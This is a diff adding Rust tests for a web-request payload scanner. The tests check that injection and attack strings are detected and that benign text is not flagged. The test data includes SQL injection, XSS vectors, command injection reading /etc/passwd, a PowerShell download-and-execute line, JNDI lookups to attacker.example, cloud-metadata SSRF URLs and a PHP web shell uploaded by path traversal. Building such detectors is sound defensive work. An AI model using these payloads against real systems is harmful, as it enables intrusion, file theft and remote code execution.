@@ -1,0 +1,211 @@
+//! Payload analysis through its public API: classic payloads of each family in each location and
+//! encoding, benign text that must stay benign, body splitting (JSON nested deep, arrays, forms,
+//! multipart, malformed JSON), a payload at the end of a 64 KB field, and a proptest that any
+//! 64 KB of bytes in any location is scanned without a panic.
+
+use proptest::prelude::*;
+use refiner_core::features::payload::{scan, scan_value, Decode, Family, Location, PayloadFindings, PayloadInput, Scratch};
+
+fn body(b: &str) -> PayloadFindings {
+    scan(&PayloadInput { body: b, ..PayloadInput::default() }, &mut Scratch::default())
+}
+
+fn value(v: &str) -> PayloadFindings {
+    scan_value(v.as_bytes(), Decode::None, Location::Body, &mut Scratch::default())
+}
+
+fn confirmed(f: &PayloadFindings) -> Vec<Family> {
+    Family::ALL.iter().copied().filter(|&x| f.confirmed(x) > 0).collect()
+}
+
+#[test]
+fn classic_payloads_are_confirmed_as_their_family() {
+    let cases: &[(Family, &str)] = &[
+        (Family::Sqli, "1' OR '1'='1' -- "),
+        (Family::Sqli, "1 UNION ALL SELECT NULL,NULL,version()--"),
+        (Family::Sqli, "'; EXEC master..xp_cmdshell 'ping 10.0.0.1'--"),
+        (Family::Sqli, "1 AND (SELECT 1 FROM (SELECT SLEEP(5))a)"),
+        (Family::Xss, "<img src=x onerror=alert(document.domain)>"),
+        (Family::Xss, "\"><svg/onload=confirm(1)>"),
+        (Family::Xss, "javascript:alert(1)"),
+        (Family::Xss, "';alert(String.fromCharCode(88,83,83))//"),
+        (Family::Command, "; cat /etc/passwd"),
+        (Family::Command, "$(id)"),
+        (Family::Command, "| powershell -nop -c iex(New-Object Net.WebClient).DownloadString('http://x')"),
+        (Family::Traversal, "../../../../etc/passwd"),
+        (Family::Traversal, "..\\..\\..\\windows\\win.ini"),
+        (Family::Template, "{{7*7}}"),
+        (Family::Template, "${T(java.lang.Runtime).getRuntime().exec('id')}"),
+        (Family::Jndi, "${jndi:ldap://attacker.example/a}"),
+        (Family::Jndi, "${${lower:j}${lower:n}${lower:d}i:rmi://x/a}"),
+        (Family::Ssrf, "http://169.254.169.254/latest/meta-data/"),
+        (Family::Ssrf, "gopher://127.0.0.1:25/_HELO"),
+        (Family::Code, "<?php echo shell_exec($_GET['c']); ?>"),
+    ];
+    for &(family, p) in cases {
+        let f = value(p);
+        assert_eq!(f.confirmed(family), 1, "{family:?} not confirmed in {p}: {f:?}");
+    }
+}
+
+#[test]
+fn encodings_are_undone_and_flagged_when_beyond_one_level() {
+    let once = |q: &str| scan(&PayloadInput { path: q, ..PayloadInput::default() }, &mut Scratch::default());
+    let plain = once("/s?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E");
+    assert!(plain.confirmed(Family::Xss) == 1 && !plain.obfuscated);
+    for q in [
+        "/s?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E",
+        "/s?q=%25253Cscript%25253Ealert(1)",
+        "/s?q=%u003Cscript%u003Ealert(1)",
+        "/s?q=%26lt;script%26gt;alert(1)",
+        "/s?q=%26%2360;script%26%2362;alert(1)",
+        "/s?q=\\x3cscript\\x3ealert(1)",
+    ] {
+        let f = once(q);
+        assert!(f.confirmed(Family::Xss) == 1 && f.obfuscated, "{q}: {f:?}");
+    }
+    let f = once("/download?file=..%c0%af..%c0%af..%c0%afetc%c0%afpasswd");
+    assert!(f.confirmed(Family::Traversal) == 1 && f.obfuscated, "{f:?}");
+    let f = once("/p?id=1/**/UNION/**/SELECT/**/password/**/FROM/**/users");
+    assert_eq!(f.confirmed(Family::Sqli), 1, "{f:?}");
+    let f = value("<scr\0ipt>alert(1)</script>");
+    assert_eq!(f.confirmed(Family::Xss), 1, "NUL bytes are dropped");
+}
+
+#[test]
+fn benign_text_that_looks_like_code_stays_unconfirmed() {
+    for t in [
+        "O'Brien",
+        "D'Angelo",
+        "Mary-Kate O'Neil-D'Souza",
+        "select your size",
+        "drop table tennis",
+        "1=1 in the docs",
+        "L'été dernier, nous sommes allés à l'île d'Oléron ; c'était « magnifique » !",
+        "Er sagte: „Das ist's gewesen“ – und ging. 'Na gut', meinte sie.",
+        "¿Qué tal? Dijo \"hola\" y se fue; 'vale'.",
+        "anna.smith+news@example.co.uk",
+        "https://www.example.org/search?q=shoes&page=2#results",
+        "{\"theme\":\"dark\",\"items\":[1,2,3]}",
+        "Tom & Jerry; rock 'n' roll | pop",
+        "I <3 you & 2 > 1",
+        "for (int i = 0; i < n; i++) { sum += a[i]; }",
+        "def f(x):\n    return x * 2  # double it",
+        "C:\\Users\\anna\\Documents\\report.docx",
+        "Price: $5 (50% off) - limited time!",
+        "see ../README.md",
+    ] {
+        let f = value(t);
+        assert!(!f.any_confirmed(), "{t}: {:?}", confirmed(&f));
+    }
+}
+
+/// A SQL query written as a question in a support form is a gray zone: it is SQL, and it would
+/// break a query it were pasted into, but it is not an injection. libinjection fingerprints
+/// injected fragments (a string or number end, then SQL), and a whole statement fingerprints as
+/// what it starts with, a bare word (`nnEok` here), which matches nothing. The quote window
+/// starts at the quote before `OR`, where a breakout would be, and `' OR 1=1 safely?` does not
+/// match either: the words after the tautology are not SQL. So both stay unconfirmed, and so
+/// would a query pasted on its own: this module reports injections, not SQL.
+#[test]
+fn sql_written_as_a_question_is_not_an_injection() {
+    for q in [
+        "Why does SELECT * FROM orders WHERE id = 5 return nothing?",
+        "How do I write SELECT name FROM users WHERE name = 'bob' OR 1=1 safely?",
+        "SELECT id, name FROM customers ORDER BY name",
+    ] {
+        let f = value(q);
+        assert!(!f.any_confirmed(), "{q}: {f:?}");
+    }
+}
+
+#[test]
+fn each_location_is_split_and_marked() {
+    let input = PayloadInput {
+        path: "/files/..%2F..%2F..%2Fetc%2Fpasswd?id=1%27%20OR%20%271%27%3D%271&x=ok",
+        body: "{\"user\":{\"bio\":\"<script>alert(1)</script>\"}}",
+        headers: "Mozilla/5.0\x1f${jndi:ldap://x/a}",
+        cookies: "session=abc; pref=http%3A%2F%2F127.0.0.1%2Fadmin",
+    };
+    let f = scan(&input, &mut Scratch::default());
+    assert!(f.confirmed_in(Family::Traversal, Location::Path), "{f:?}");
+    assert!(f.confirmed_in(Family::Sqli, Location::Query), "{f:?}");
+    assert!(f.confirmed_in(Family::Xss, Location::Body), "{f:?}");
+    assert!(f.confirmed_in(Family::Jndi, Location::Header), "{f:?}");
+    assert!(f.confirmed_in(Family::Ssrf, Location::Cookie), "{f:?}");
+    assert_eq!(f.confirmed.iter().map(|&n| u32::from(n)).sum::<u32>(), 5, "{f:?}");
+}
+
+#[test]
+fn body_fields_are_parsed_json_forms_and_multipart() {
+    let nested = format!("{}\"{{{{7*7}}}}\"{}", "{\"a\":".repeat(20), "}".repeat(20));
+    assert_eq!(body(&nested).confirmed(Family::Template), 1, "JSON nested 20 deep");
+    assert_eq!(body("[\"ok\",[\"fine\",[\"; cat /etc/passwd\"]]]").confirmed(Family::Command), 1, "arrays");
+    let form = body("name=anna&comment=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E&agree=on");
+    assert_eq!(form.confirmed(Family::Xss), 1, "urlencoded form: {form:?}");
+    let multipart = "--b0undary\r\nContent-Disposition: form-data; name=\"avatar\"; filename=\"../../../var/www/shell.php\"\r\nContent-Type: image/png\r\n\r\n<?php system($_GET['c']); ?>\r\n--b0undary--\r\n";
+    let m = body(multipart);
+    assert_eq!((m.confirmed(Family::Traversal), m.confirmed(Family::Code)), (1, 1), "multipart: {m:?}");
+    let f = body("{\"a\": \"b\", \"c\": [1, 2, \"<svg onload=alert(1)>\"");
+    assert_eq!(f.confirmed(Family::Xss), 1, "malformed JSON is still scanned, as one value: {f:?}");
+    assert_eq!(body("plain text\x1f{\"q\":\"${jndi:dns://x}\"}\x1fmore").confirmed(Family::Jndi), 1);
+}
+
+#[test]
+fn a_payload_at_the_end_of_a_64_kb_field_is_found() {
+    let filler = "Lorem ipsum dolor sit amet, consectetur adipiscing elit. ".repeat(64 * 1024 / 57);
+    for (family, payload) in [
+        (Family::Xss, "<script>alert(1)</script>"),
+        (Family::Sqli, "' UNION SELECT password FROM users--"),
+        (Family::Command, "; cat /etc/passwd"),
+        (Family::Jndi, "${jndi:ldap://x/a}"),
+        (Family::Template, "{{7*7}}"),
+    ] {
+        let field = format!("{filler}{payload}");
+        assert!(field.len() >= 64 * 1024 - 100);
+        let f = body(&field);
+        assert_eq!(f.confirmed(family), 1, "{family:?} at the end of {} bytes", field.len());
+        let in_json = body(&format!("{{\"note\":{}}}", serde_json::to_string(&field).unwrap()));
+        assert_eq!(in_json.confirmed(family), 1, "{family:?} at the end of a JSON string");
+    }
+}
+
+#[test]
+fn scratch_is_reused_without_carrying_results_over() {
+    let mut scratch = Scratch::default();
+    let bad = scan(&PayloadInput { body: "<script>alert(1)</script>", ..PayloadInput::default() }, &mut scratch);
+    assert!(bad.any_confirmed());
+    let good = scan(&PayloadInput { body: "hello", ..PayloadInput::default() }, &mut scratch);
+    assert!(!good.any_confirmed() && !good.obfuscated);
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig { cases: 64, ..ProptestConfig::default() })]
+
+    /// Any 64 KB of bytes (made valid UTF-8, as the JS layer's strings are) in any location.
+    #[test]
+    fn any_64_kb_is_scanned_without_panic(
+        bytes in prop::collection::vec(any::<u8>(), 64 * 1024),
+        pieces in prop::collection::vec(prop::sample::select(vec![
+            "'", "\"", "<", ">", "${", "{{", "}}", "%", "%25", "&#", "\\x", "\\u", "..", "/", ";", "|", "`", "$(", "/*", "*/",
+            "\x1f", "--", "=", "&", "://", "[", "]", "{", "}", "\\", "<?", "<script", " on", "jndi:", "\0", "\n", "%c0",
+        ]), 0..2000),
+        location in 0..4usize,
+    ) {
+        let mut text = String::from_utf8_lossy(&bytes).into_owned();
+        for (i, p) in pieces.iter().enumerate() {
+            let at = (i * 7919) % text.len().max(1);
+            let at = (0..=at).rev().find(|&k| text.is_char_boundary(k)).unwrap_or(0);
+            text.insert_str(at, p);
+        }
+        let mut input = PayloadInput::default();
+        match location {
+            0 => input.path = &text,
+            1 => input.body = &text,
+            2 => input.headers = &text,
+            _ => input.cookies = &text,
+        }
+        let f = scan(&input, &mut Scratch::default());
+        prop_assert!(f.values > 0 || text.is_empty());
+    }
+}
